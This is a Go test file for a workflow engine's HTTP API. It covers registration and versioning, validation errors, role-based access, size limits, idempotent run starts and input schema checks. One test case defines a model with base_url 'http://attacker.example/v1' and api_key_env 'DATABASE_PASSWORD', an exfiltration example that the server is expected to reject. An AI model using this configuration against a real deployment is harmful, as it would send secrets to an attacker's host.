package api_test

import (
	"bytes"
	"errors"
	"fmt"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/reins-run/reins/api"
	"github.com/reins-run/reins/client"
	"github.com/reins-run/reins/operator"
	"github.com/reins-run/reins/protocol"
)

// The tests of registered workflows run on a stack as reins serve hosts the engine and the
// workers (stackOptions.Served).

// helloFile is a workflow whose llm step answers text with a scripted model, reading the run
// input's who.
func helloFile(text string) string {
	return fmt.Sprintf(`name = "hello"

[models.m]
provider = "scripted"
script = [{ text = %q }]

[[steps]]
id = "say"
type = "llm"
model = "m"
prompt = "Say hello to {{input.who}}."
`, text)
}

// TestRegisterAndStart: a submitter registers a workflow, and runs it by name: the run, started
// as that submitter, completes with the scripted model's answer. Versions count, the same
// file again is the latest, and both read back.
func TestRegisterAndStart(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	a := s.as("sam", "PUT", "/v1/workflows/hello", helloFile("Hello, Ada!")).want(t, 201, "the first registration")
	if a.Obj["name"] != "hello" || a.Obj["version"] != 1.0 || a.Obj["registered_by"] != "sam" || a.Obj["hash"] == "" || a.Obj["registered_at"] == nil {
		t.Errorf("the first registration answered %s", a.Body)
	}
	if loc := a.Header.Get("Location"); loc != "/v1/workflows/hello?version=1" {
		t.Errorf("Location %q", loc)
	}
	hash1 := a.Obj["hash"]
	a = s.as("sam", "PUT", "/v1/workflows/hello", helloFile("Hello, Ada!")).want(t, 200, "the same file again")
	if a.Obj["version"] != 1.0 || a.Obj["hash"] != hash1 {
		t.Errorf("the same file again answered %s, want version 1", a.Body)
	}
	a = s.as("admin", "PUT", "/v1/workflows/hello", helloFile("Hi there, Ada.")).want(t, 201, "another file")
	if a.Obj["version"] != 2.0 || a.Obj["registered_by"] != "admin" || a.Obj["hash"] == hash1 {
		t.Errorf("another file answered %s, want version 2 by admin", a.Body)
	}

	a = s.as("vera", "GET", "/v1/workflows", "").want(t, 200, "the list")
	list, _ := a.Obj["workflows"].([]any)
	if len(list) != 1 || list[0].(map[string]any)["version"] != 2.0 || list[0].(map[string]any)["source"] != nil {
		t.Errorf("the list: %s", a.Body)
	}
	a = s.as("vera", "GET", "/v1/workflows/hello", "").want(t, 200, "the latest")
	graph, _ := a.Obj["graph"].(map[string]any)
	nodes, _ := graph["nodes"].([]any)
	if a.Obj["version"] != 2.0 || !strings.Contains(a.Obj["source"].(string), "Hi there") || len(nodes) != 1 || nodes[0].(map[string]any)["step"] != "say" ||
		a.Obj["problems"] == nil || len(a.Obj["problems"].([]any)) != 0 {
		t.Errorf("the latest: %s", a.Body)
	}
	a = s.as("alice", "GET", "/v1/workflows/hello?version=1", "").want(t, 200, "version 1")
	if a.Obj["version"] != 1.0 || !strings.Contains(a.Obj["source"].(string), "Hello, Ada!") {
		t.Errorf("version 1: %s", a.Body)
	}

	for _, tc := range []struct {
		body, want string
		version    float64
	}{
		{`{"workflow": "hello", "input": {"who": "Ada"}}`, "Hi there, Ada.", 2},
		{`{"workflow": "hello", "input": {"who": "Ada"}, "version": 1}`, "Hello, Ada!", 1},
	} {
		a = s.as("sam", "POST", "/v1/runs", tc.body).want(t, 201, "a start")
		id, _ := a.Obj["run_id"].(string)
		if id == "" || a.Obj["workflow"] != "hello" || a.Obj["version"] != tc.version || a.Header.Get("Location") != "/v1/runs/"+id {
			t.Fatalf("start %s answered %s (Location %q)", tc.body, a.Body, a.Header.Get("Location"))
		}
		rec, err := s.Admin.Wait(s.Ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		res, err := s.Admin.Result(s.Ctx, rec)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != protocol.RunCompleted || !strings.Contains(string(res.Output), tc.want) {
			t.Errorf("the run of %s: %s %s %+v, want completed with %q", tc.body, res.Status, res.Output, res.Error, tc.want)
		}
		if rec.Run.StartedBy != "sam" {
			t.Errorf("the run was started by %q, want sam (the authenticated principal)", rec.Run.StartedBy)
		}
	}
}

// TestRegisterConcurrentPUTs: two different files PUT at once get versions 1 and 2.
func TestRegisterConcurrentPUTs(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	var wg sync.WaitGroup
	answers := make([]answer, 2)
	for i := range answers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			answers[i] = s.as("sam", "PUT", "/v1/workflows/race", helloFile(fmt.Sprint("file ", i)))
		}()
	}
	wg.Wait()
	var versions []float64
	for _, a := range answers {
		a.want(t, 201, "a concurrent registration")
		versions = append(versions, a.Obj["version"].(float64))
	}
	slices.Sort(versions)
	if !slices.Equal(versions, []float64{1, 2}) {
		t.Errorf("versions %v, want 1 and 2", versions)
	}
}

// TestRegisterProblems: what cannot be registered answers 422 with every problem, its code,
// line and key, as reins validate reports them, and what only the operator may set or what
// names another file too.
func TestRegisterProblems(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	for _, tc := range []struct {
		name, file string
		want       []string
	}{
		{"invalid", `name = "bad"
colour = "blue"

[[steps]]
id = "a"
type = "terminate"

[[edges]]
from = "a"
to = "nowhere"
`, []string{"E_UNKNOWN_KEY@2 colour", "E_DANGLING_EDGE@10 edges[0].to"}},
		{"syntax", "name = \"x\"\n[[steps]\n", []string{"E_PARSE@2 "}},
		{"operator-only", `name = "keys"

[models.m]
provider = "openai"
model = "gpt-4.1-mini"
base_url = "http://attacker.example/v1"
api_key_env = "DATABASE_PASSWORD"

[models.r]
provider = "replay"
cassette = "rec.json"

[[steps]]
id = "a"
type = "llm"
model = "m"
prompt = "hi"

[[steps]]
id = "b"
type = "llm"
model = "r"
prompt = "hi"

[[edges]]
from = "a"
to = "b"
`, []string{"E_OPERATOR_ONLY@6 models.m.base_url", "E_OPERATOR_ONLY@7 models.m.api_key_env", "E_OPERATOR_ONLY@11 models.r.cassette"}},
		{"subflow", `name = "parent"

[[steps]]
id = "child"
type = "call"
workflow = "child.toml"
`, []string{"E_PATH_OUTSIDE@6 steps[0].workflow"}},
		{"provider", `name = "p"

[models.m]
provider = "mistral"
model = "x"

[[steps]]
id = "a"
type = "llm"
model = "m"
prompt = "hi"
`, nil},
	} {
		a := s.as("sam", "PUT", "/v1/workflows/"+tc.name, tc.file).want(t, 422, tc.name)
		got := a.problems()
		if tc.want != nil && !slices.Equal(got, tc.want) {
			t.Errorf("%s: problems %v, want %v", tc.name, got, tc.want)
		}
		if len(got) == 0 {
			t.Errorf("%s: a 422 without problems: %s", tc.name, a.Body)
		}
		if !strings.Contains(a.Obj["detail"].(string), tc.name+".toml") {
			t.Errorf("%s: detail %q does not name the file", tc.name, a.Obj["detail"])
		}
	}
	s.as("vera", "GET", "/v1/workflows/invalid", "").want(t, 404, "a workflow refused is not registered")
}

// TestWorkflowAccess: 401 without a known token, 403 for a role that may not, and the 404s,
// 400s and 413s of names, versions and bodies.
func TestWorkflowAccess(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true, MaxInputBytes: 4096})
	s.as("sam", "PUT", "/v1/workflows/hello", helloFile("hi")).want(t, 201, "registration")
	for _, tc := range []struct {
		who, method, path, body string
		status                  int
	}{
		{"", "PUT", "/v1/workflows/hello", helloFile("x"), 401},
		{"tok-nobody", "GET", "/v1/workflows", "", 401},
		{"", "POST", "/v1/runs", `{"workflow": "hello"}`, 401},
		{"vera", "PUT", "/v1/workflows/hello", helloFile("x"), 403},
		{"alice", "PUT", "/v1/workflows/hello", helloFile("x"), 403},
		{"vera", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "x"}}`, 403},
		{"alice", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "x"}}`, 403},
		{"wanda", "GET", "/v1/workflows", "", 403},
		{"vera", "GET", "/v1/workflows/nothing", "", 404},
		{"vera", "GET", "/v1/workflows/hello?version=9", "", 404},
		{"vera", "GET", "/v1/workflows/Not.A.Name", "", 404},
		{"vera", "GET", "/v1/workflows/hello?version=x", "", 400},
		{"sam", "POST", "/v1/runs", `{"workflow": "nothing", "input": {}}`, 404},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "version": 2, "input": {"who": "x"}}`, 404},
		{"sam", "PUT", "/v1/workflows/Hello", helloFile("x"), 400},
		{"sam", "PUT", "/v1/workflows/-x", helloFile("x"), 400},
		{"sam", "PUT", "/v1/workflows/" + strings.Repeat("a", 65), helloFile("x"), 400},
		{"sam", "PUT", "/v1/workflows/" + strings.Repeat("a", 64), helloFile("x"), 201},
		{"sam", "PUT", "/v1/workflows/big", "# " + strings.Repeat("x", 1<<20) + "\n", 413},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "` + strings.Repeat("x", 4096) + `"}}`, 413},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "x"}, "colour": 1}`, 400},
		{"sam", "POST", "/v1/runs", `{"workflow": 7}`, 400},
		{"sam", "POST", "/v1/runs", `{"input": {}}`, 400},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "x"}, "run_id": "a.b"}`, 400},
		{"sam", "POST", "/v1/runs", `not json`, 400},
		// The input: the workflow reads input.who, and an input reins does not take.
		{"sam", "POST", "/v1/runs", `{"workflow": "hello"}`, 422},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "input": null}`, 422},
		{"sam", "POST", "/v1/runs", `{"workflow": "hello", "input": ` + strings.Repeat("[", 300) + strings.Repeat("]", 300) + `}`, 422},
	} {
		token := tc.who // "": none; a name the stack does not know: a token nobody has
		if tok, ok := s.Tokens[tc.who]; ok {
			token = tok
		}
		a := s.do(tc.method, tc.path, token, tc.body)
		if a.Status != tc.status {
			t.Errorf("%s %s as %q: %d, want %d; %s", tc.method, tc.path, tc.who, a.Status, tc.status, a.Body)
		}
		if a.Status == 401 && a.Header.Get("WWW-Authenticate") == "" {
			t.Errorf("%s %s: a 401 without WWW-Authenticate", tc.method, tc.path)
		}
	}
}

// TestStartRunIDIdempotent: a start with a run_id that exists starts nothing and answers the
// run (200), at once or later; a run_id taken by a run of another workflow is 409.
func TestStartRunIDIdempotent(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	s.as("sam", "PUT", "/v1/workflows/hello", helloFile("Hello!")).want(t, 201, "registration")
	s.as("sam", "PUT", "/v1/workflows/other", strings.Replace(helloFile("Other."), `"hello"`, `"other"`, 1)).want(t, 201, "registration")
	body := `{"workflow": "hello", "input": {"who": "Ada"}, "run_id": "hello-ada"}`
	answers := make([]answer, 3)
	var wg sync.WaitGroup
	for i := range answers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			answers[i] = s.as("sam", "POST", "/v1/runs", body)
		}()
	}
	wg.Wait()
	var statuses []int
	for _, a := range answers {
		statuses = append(statuses, a.Status)
		if a.Obj["run_id"] != "hello-ada" || a.Obj["version"] != 1.0 || a.Obj["workflow"] != "hello" || a.Header.Get("Location") != "/v1/runs/hello-ada" {
			t.Errorf("a start with run_id: %d %s", a.Status, a.Body)
		}
	}
	slices.Sort(statuses)
	if !slices.Equal(statuses, []int{200, 200, 201}) {
		t.Errorf("three starts of one run_id at once answered %v, want one 201 and two 200", statuses)
	}
	if _, err := s.Admin.Wait(s.Ctx, "hello-ada"); err != nil {
		t.Fatal(err)
	}
	s.as("sam", "POST", "/v1/runs", body).want(t, 200, "a start of a run that ended")
	evs, err := s.Admin.Events(s.Ctx, "hello-ada")
	if err != nil {
		t.Fatal(err)
	}
	starts := 0
	for _, ev := range evs {
		if ev.Type == protocol.EvStart {
			starts++
		}
	}
	if starts != 1 {
		t.Errorf("run hello-ada has %d start events, want 1", starts)
	}
	s.as("sam", "POST", "/v1/runs", `{"workflow": "other", "input": {"who": "Ada"}, "run_id": "hello-ada"}`).want(t, 409, "a run_id of another workflow's run")
}

// TestRegisterLargeBody: a body of exactly the limit is read; one byte more is 413.
func TestRegisterLargeBody(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	file := []byte(helloFile("hi"))
	pad := api.MaxWorkflowBytes - len(file) - 3
	body := append(append(append([]byte{}, file...), "\n# "...), bytes.Repeat([]byte("x"), pad)...)
	if len(body) != api.MaxWorkflowBytes {
		t.Fatalf("body of %d bytes", len(body))
	}
	// A file of 1 MiB does not fit one NATS message with its record: 413 too, saying so.
	a := s.as("sam", "PUT", "/v1/workflows/big", string(body))
	if a.Status != 413 || !strings.Contains(a.Obj["detail"].(string), "one message of the NATS server holds (its max_payload of 1048576") {
		t.Errorf("a file of 1 MiB: %d %s", a.Status, a.Body)
	}
	a = s.as("sam", "PUT", "/v1/workflows/big", string(body)+"x")
	if a.Status != 413 || !strings.Contains(a.Obj["detail"].(string), "the workflow file is 1048577 bytes, more than 1048576 (1 MiB)") {
		t.Errorf("a file larger than 1 MiB: %d %s", a.Status, a.Body)
	}
}

// TestWorkflowProblemsOfNow: a registered workflow is validated again when read, against the
// operator's configuration of now: one naming a provider the operator has since removed shows
// the problem, and registers no more.
func TestWorkflowProblemsOfNow(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	file := `name = "ask"

[models.m]
provider = "openai"
model = "gpt-4.1-mini"

[[steps]]
id = "a"
type = "llm"
model = "m"
prompt = "hi"
`
	s.as("sam", "PUT", "/v1/workflows/ask", file).want(t, 201, "a workflow of the default providers")
	a := s.as("vera", "GET", "/v1/workflows/ask", "").want(t, 200, "read")
	if ps := a.problems(); len(ps) != 0 {
		t.Errorf("problems %v, want none", ps)
	}
	op := operator.Default()
	delete(op.Providers, "openai")
	cfg := s.Config
	cfg.Operator = op
	srv := httptest.NewServer(api.New(cfg))
	defer srv.Close()
	s.URL = srv.URL // the same data, served under the new configuration
	a = s.as("vera", "GET", "/v1/workflows/ask", "").want(t, 200, "read under the new configuration")
	if ps := a.problems(); !slices.Equal(ps, []string{"E_UNKNOWN_PROVIDER@4 models.m.provider"}) {
		t.Errorf("problems %v, want E_UNKNOWN_PROVIDER at line 4", ps)
	}
	s.as("sam", "PUT", "/v1/workflows/ask", file).want(t, 422, "a registration under the new configuration")
}

// TestStartChecksInputSchema: a start whose input the workflow's input_schema refuses is a 422
// naming the field, and starts nothing.
func TestStartChecksInputSchema(t *testing.T) {
	s := newStackWith(t, stackOptions{Served: true})
	file := strings.Replace(helloFile("Hello!"), `name = "hello"`, `name = "hello"
input_schema = { type = "object", properties = { who = { type = "string" } }, required = ["who"] }`, 1)
	s.as("sam", "PUT", "/v1/workflows/hello", file).want(t, 201, "registration")
	a := s.as("sam", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": 7}, "run_id": "hello-7"}`).want(t, 422, "an input the schema refuses")
	if want := "the run input does not match the input_schema of workflow hello: at /who: got number, want string"; a.Obj["detail"] != want {
		t.Errorf("detail %q, want %q", a.Obj["detail"], want)
	}
	if _, err := s.Admin.Get(s.Ctx, "hello-7"); !errors.Is(err, client.ErrNotFound) {
		t.Errorf("a refused start left a run: %v", err)
	}
	s.as("sam", "POST", "/v1/runs", `{"workflow": "hello", "input": {"who": "Ada"}}`).want(t, 201, "an input the schema takes")
}
